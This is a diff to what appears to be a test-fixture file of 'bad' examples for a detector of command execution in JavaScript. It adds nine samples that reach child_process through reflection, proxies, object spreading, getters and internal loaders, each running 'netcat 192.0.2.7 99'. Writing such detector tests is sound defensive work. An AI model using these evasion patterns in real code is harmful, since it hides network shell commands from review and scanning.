@@ -3,6 +3,51 @@ import type { DetectorExamples } from '../detector.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "Reflect.apply(require, null, ['child_process']).execSync('netcat 192.0.2.7 99');",
+      why: 'a loader that is called by reflection',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "module.constructor._load('child_process').execSync('netcat 192.0.2.7 99');",
+      why: 'a loader that lies below the module',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "const all = { ...require('child_process') }; all.execSync('netcat 192.0.2.7 99');",
+      why: 'a module that is spread into an object',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "const all = Object.assign({}, require('child_process')); all.execSync('netcat 192.0.2.7 99');",
+      why: 'a module that an object is filled with',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "new Proxy(require('child_process'), {}).execSync('netcat 192.0.2.7 99');",
+      why: 'a module behind a proxy',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "Reflect.get(require('child_process'), 'execSync')('netcat 192.0.2.7 99');",
+      why: 'a member that is taken by reflection',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "const tools = { get run() { return require('child_process').execSync; } }; tools.run('netcat 192.0.2.7 99');",
+      why: 'a member that is a getter',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "const cp = require('child_process'); for (const name of names) cp[name]('netcat 192.0.2.7 99');",
+      why: 'any member of what starts programs',
+      attributes: { command: 'netcat', shell: 'true', via: 'exec' },
+    },
+    {
+      code: "const { ChildProcess } = require('child_process'); new ChildProcess().spawn({ file: 'netcat', args: ['netcat', '192.0.2.7', '99'] });",
+      why: 'what lies below the functions of the module',
+      attributes: { command: 'netcat', via: 'binding' },
+    },
+    {
       code: "const cp = require('child_process'); cp.execSync['ca' + 'll'](cp, 'netcat 192.0.2.7 99');",
       why: 'called by a method that is spelled in parts',
       attributes: { command: 'netcat', shell: 'true', via: 'exec' },
